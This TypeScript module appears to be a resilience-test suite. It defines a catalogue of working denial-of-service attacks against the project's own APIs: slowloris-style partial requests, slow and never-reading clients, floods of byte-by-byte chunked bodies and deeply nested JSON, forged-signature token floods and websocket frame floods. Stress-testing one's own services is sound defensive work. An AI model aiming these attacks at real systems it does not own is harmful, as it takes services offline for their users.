import { randomBytes } from 'node:crypto';
import type { Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { frameOf, inParallel, open, requestText, type AttackTarget, untilClosed } from './raw-client.js';

/** Goes on until the signal says stop. */
export type Attack = (target: AttackTarget, signal: AbortSignal) => Promise<void>;

const JSON_HEADERS = { 'content-type': 'application/json' };
const POST = 'POST /identify/batch';

/** Where both services read a body: the users API identifies, the blocks API starts a flow and ignores it. */
const postTo = ({ key = '' }: AttackTarget): string => (key.startsWith('blocks-') ? 'POST /v2/flow/any/start' : POST);

/** Opens a connection and holds it, for as long as the other side allows; then another one. */
async function hold(target: AttackTarget, signal: AbortSignal, use: (socket: Socket) => void): Promise<void> {
  const socket = await open(target);
  if (!socket) return void (await pause(20));
  use(socket);
  await untilClosed(socket, signal);
}

/** Sends a text again and again, as fast as answers come: what is read is thrown away. */
function flood(text: (target: AttackTarget) => string, connections = 64): Attack {
  return (target, signal) =>
    inParallel(connections, signal, () =>
      hold(target, signal, (socket) => {
        const bytes = text(target);
        socket.on('data', () => socket.write(bytes));
        socket.write(bytes);
      }),
    );
}

const HANDSHAKE = 'GET /v2/socket/?EIO=4&transport=websocket&endUserIdentifier=ada';
const WEBSOCKET = {
  connection: 'Upgrade',
  upgrade: 'websocket',
  'sec-websocket-version': 13,
  'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
};

/** Opens a socket, sends what comes first, and after that answer the same frames again and again, as fast as they are taken. */
function floodSocket(first: (target: AttackTarget) => Buffer, frame: Buffer, answer = ''): Attack {
  const frames = Buffer.concat(Array<Buffer>(2_000).fill(frame));
  return (target, signal) =>
    inParallel(8, signal, () =>
      hold(target, signal, (socket) => {
        const send = (): void => void (!socket.destroyed && socket.write(frames, () => setImmediate(send)));
        const look = (data: Buffer): void => {
          if (!data.includes(answer)) return;
          socket.off('data', look).resume();
          send();
        };
        socket.once('data', (data: Buffer) => {
          socket.write(first(target));
          if (answer === '') look(data);
          else socket.on('data', look);
        });
        socket.write(requestText({ url: target.url }, HANDSHAKE, WEBSOCKET));
      }),
    );
}

/** Asks on an open socket to be shown a flow anew, whenever some of it has come: no faster than the answers. */
const askAgain = (target: AttackTarget, ask: Buffer, socket: Socket): void => {
  let isLetIn = false;
  socket.once('data', () => socket.write(connect(target)));
  socket.on('data', (data: Buffer) => {
    isLetIn ||= data.includes('"ready"');
    if (isLetIn) socket.write(ask);
  });
  socket.write(requestText({ url: target.url }, HANDSHAKE, WEBSOCKET));
};

const connect = ({ key = '' }: AttackTarget): Buffer => frameOf('text', `40/v2/client,${JSON.stringify({ 'x-api-key': key })}`);
const WATCH_LARGE = frameOf('text', '42/v2/client,["watch:flow","large",1]');
const nothing = (): Buffer => Buffer.alloc(0);

/** The end of a chunked request: a body of which every byte is a piece of its own. */
const crumbs = `${'1\r\n \r\n'.repeat(300_000)}0\r\n\r\n`;
const CRUMBLED = { ...JSON_HEADERS, 'transfer-encoding': 'chunked' };

const unknownKey = `blocks-${'A'.repeat(43)}`;
const swelling = JSON.stringify({ a: Array.from({ length: 340_000 }, () => ({})) });
const deep = '['.repeat(200_000);

/** The same token with a signature of nobody's. */
const forge = (credential: string): string =>
  `${credential.slice(0, credential.lastIndexOf('.'))}.${randomBytes(64).toString('base64url')}`;

/** Connections of those who never read. */
export const UNREADING = 40;

/** Everything that somebody tries who wants to take a replica down, by its name (R13). */
export const ATTACKS = {
  /** A slow request, many more behind it on the same connection, and gone. */
  'pipeline-then-close': (target, signal) =>
    inParallel(20, signal, () =>
      hold(target, signal, (socket) => {
        const slow = requestText({ ...target, key: unknownKey }, 'GET /v2/flow/x');
        socket.write(slow + requestText({ url: target.url }, 'GET /nothing').repeat(40));
        setTimeout(() => socket.destroy(), 20);
      }),
    ),

  /** Asks for more than the system keeps for it, though no faster than it may, and reads nothing. */
  'never-read': (target, signal) =>
    inParallel(UNREADING, signal, () =>
      hold(target, signal, (socket) => {
        socket.pause();
        const ask = () => socket.write(requestText(target, 'GET /docs/viewer.js'));
        const asking = setInterval(ask, 1_000);
        socket.once('close', () => clearInterval(asking));
        ask();
      }),
    ),

  /** Asks for much and reads a little of it now and then. */
  'slow-reads': (target, signal) =>
    inParallel(40, signal, () =>
      hold(target, signal, (socket) => {
        socket.pause();
        socket.on('data', () => socket.pause());
        const sips = setInterval(() => socket.resume(), 200);
        socket.once('close', () => clearInterval(sips));
        socket.write(requestText(target, 'GET /docs/json').repeat(100));
      }),
    ),

  /** A head that is never finished. */
  'slow-heads': (target, signal) =>
    inParallel(1_000, signal, () => hold(target, signal, (socket) => socket.write('GET /health HTTP/1.1\r\nx-slow: '))),

  /** A body that never comes. */
  'slow-bodies': (target, signal) =>
    inParallel(1_000, signal, () =>
      hold(target, signal, (socket) =>
        socket.write(requestText(target, postTo(target), { ...JSON_HEADERS, 'content-length': 2 })),
      ),
    ),

  /** Bodies of which all but the last byte comes. */
  'unfinished-bodies': (target, signal) =>
    inParallel(200, signal, () =>
      hold(target, signal, (socket) => {
        socket.write(requestText(target, postTo(target), { ...JSON_HEADERS, 'content-length': 1_000_000 }));
        socket.write(Buffer.alloc(999_999, ' '));
      }),
    ),

  /** A megabyte that takes twenty times its size once it is read. */
  'swelling-bodies': flood(
    (target) => requestText(target, postTo(target), { ...JSON_HEADERS, 'content-length': swelling.length }, swelling),
    120,
  ),

  /** Nested without end. */
  'deep-bodies': flood(
    (target) => requestText(target, postTo(target), { ...JSON_HEADERS, 'content-length': deep.length }, deep),
    40,
  ),

  /** Larger than is allowed, with its length and without. */
  'oversize-bodies': (target, signal) =>
    inParallel(40, signal, () =>
      hold(target, signal, (socket) => {
        socket.resume();
        socket.write(requestText(target, postTo(target), { ...JSON_HEADERS, 'transfer-encoding': 'chunked' }));
        const chunk = `${(65_536).toString(16)}\r\n${' '.repeat(65_536)}\r\n`;
        const send = (): void => void (!socket.destroyed && socket.write(chunk, () => setImmediate(send)));
        send();
      }),
    ),

  /** A megabyte, byte by byte. */
  'crumbled-bodies': flood((target) => requestText(target, postTo(target), CRUMBLED, crumbs), 100),
  /** The same by somebody whose key is refused before. */
  'crumbled-by-strangers': flood((target) => requestText({ ...target, key: unknownKey }, postTo(target), CRUMBLED, crumbs), 100),

  /** A name in a query as often as it fits. */
  'repeated-names': flood((target) => requestText({ url: target.url }, `GET /health?${'a&'.repeat(7_000)}`)),

  'health-flood': flood((target) => requestText({ url: target.url }, 'GET /health/ready')),
  'health-like-flood': flood((target) => requestText({ url: target.url }, 'GET /healthANYTHING')),
  'stranger-flood': flood((target) => requestText({ url: target.url }, 'GET /v2/flow/any?userIdentifier=ada&version=1')),
  'unknown-key-flood': flood((target) => requestText({ ...target, key: unknownKey }, 'GET /v2/flow/any')),
  /** Tokens whose signatures do not hold, so that each has to be verified; the key of the target carries one that does. */
  'wrong-token-flood': flood((target) =>
    requestText({ ...target, key: forge(target.key ?? unknownKey) }, 'GET /v2/flow/any?userIdentifier=ada&version=1'),
  ),
  'page-key-flood': flood((target) => requestText(target, 'POST /v2/flow/any/start?userIdentifier=ada&version=1')),

  /** Connections that ask for nothing. */
  'idle-connections': (target, signal) => inParallel(10_000, signal, () => hold(target, signal, () => undefined)),

  /** A request, and a reset before its answer. */
  'reset-storm': (target, signal) =>
    inParallel(64, signal, () =>
      hold(target, signal, (socket) => {
        socket.write(requestText(target, 'GET /v2/flow/any?userIdentifier=ada&version=1'));
        setImmediate(() => socket.resetAndDestroy());
      }),
    ),

  /** Offers of a protocol that nobody speaks here. */
  'upgrade-offers': flood((target) =>
    requestText({ url: target.url }, 'GET /nothing', { connection: 'Upgrade, HTTP2-Settings', upgrade: 'h2c' }),
  ),

  /** Sockets that are opened without a key, and let go. */
  'handshake-flood': (target, signal) =>
    inParallel(64, signal, () =>
      hold(target, signal, (socket) => {
        socket.once('data', () => socket.destroy());
        socket.write(requestText({ url: target.url }, HANDSHAKE, WEBSOCKET));
      }),
    ),

  /** Sockets that are opened without a key, and stay as they are. */
  'silent-sockets': (target, signal) =>
    inParallel(1_000, signal, () =>
      hold(target, signal, (socket) => socket.resume().write(requestText({ url: target.url }, HANDSHAKE, WEBSOCKET))),
    ),

  /** On open sockets: events that nobody knows, pings that want answers, and frames that never end. */
  'frame-flood': floodSocket(connect, frameOf('text', '42/v2/client,["x"]'), '"ready"'),
  'ping-flood': floodSocket(connect, frameOf('ping', ''), '"ready"'),
  'fragment-flood': floodSocket(() => frameOf('begun', '4'), frameOf('continued', '')),
  /** Wants to be let in, again and again on the same socket, by a key that does not exist. */
  'connect-flood': floodSocket(nothing, connect({ url: '', key: unknownKey })),
  /** Watches the same large flow again and again: each time all of it is read and sent. */
  'snapshot-flood': (target, signal) =>
    inParallel(20, signal, () => hold(target, signal, (socket) => askAgain(target, WATCH_LARGE, socket))),
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof ATTACKS;
